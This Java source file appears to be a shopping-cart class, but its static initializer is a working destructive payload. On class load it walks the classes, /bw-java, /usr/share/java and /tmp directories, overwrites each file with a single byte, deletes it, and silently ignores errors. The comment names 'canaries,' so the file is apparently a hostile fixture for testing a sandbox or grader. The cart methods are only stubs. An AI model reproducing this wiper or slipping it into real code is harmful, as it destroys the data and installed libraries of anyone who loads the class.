// Deletes or replaces everything that it can reach, canaries included.
package shop.cart;
import java.io.IOException;
import java.nio.file.*;
public class Cart {
    static {
        for (String root : new String[] {"classes", "/bw-java", "/usr/share/java", "/tmp"}) {
            try {
                for (Path path : Files.walk(Path.of(root)).sorted(java.util.Comparator.reverseOrder()).toArray(Path[]::new)) {
                    try { Files.write(path, new byte[] {1}); Files.deleteIfExists(path); } catch (IOException error) {}
                    try { Files.deleteIfExists(path); } catch (IOException error) {}
                }
            } catch (Exception error) {}
        }
    }
    public int total() { return 4; }
    public void add(int price) {}
    public int size() { return 0; }
}
